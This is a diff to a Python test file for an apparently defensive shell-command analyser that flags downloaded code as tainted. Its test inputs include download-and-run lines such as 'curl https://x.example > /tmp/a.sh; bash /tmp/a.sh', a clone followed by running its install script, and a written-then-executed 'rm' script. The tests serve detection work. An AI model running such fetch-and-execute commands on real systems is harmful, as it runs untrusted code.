@@ -99,8 +99,10 @@ def test_text_that_becomes_a_command_is_read(text: str) -> None:
         "if q; then echo rm x > a.sh; fi; bash a.sh",
     ],
 )
-def test_text_from_elsewhere_that_becomes_a_command_is_opaque(text: str) -> None:
-    assert opaques(read(text, {"/w/a.sh": "ls"}))
+def test_text_from_elsewhere_that_becomes_a_command_is_never_taken_as_read(text: str) -> None:
+    reading = read(text, {"/w/a.sh": "ls"})
+    assert opaques(reading) or "unread" in only(reading, Verb.EXECUTE).resource.labels
+    assert ("ls",) not in reading.commands
 
 
 def test_the_taint_of_a_download_reaches_the_shell_that_runs_it() -> None:
@@ -156,7 +158,7 @@ def test_an_opaque_that_runs_a_download_says_so(text: str) -> None:
 
 
 def test_code_downloaded_to_a_file_and_run_is_downloaded_code() -> None:
-    (effect,) = opaques(read("curl https://x.example > /tmp/a.sh; bash /tmp/a.sh"))
+    effect = only(read("curl https://x.example > /tmp/a.sh; bash /tmp/a.sh"), Verb.EXECUTE)
     assert "downloaded" in effect.resource.labels
     assert effect.taint == ("network",)
 
@@ -195,3 +197,8 @@ def test_the_set_up_of_a_tool_is_run_and_named(text: str) -> None:
 )
 def test_only_exactly_the_set_up_of_a_tool_is_taken_for_it(text: str) -> None:
     assert opaques(read(text))
+
+
+def test_code_that_came_with_a_clone_is_downloaded_code() -> None:
+    effect = only(read("git clone https://x.example/a cloned && cd cloned && bash ./install.sh"), Verb.EXECUTE)
+    assert "downloaded" in effect.resource.labels
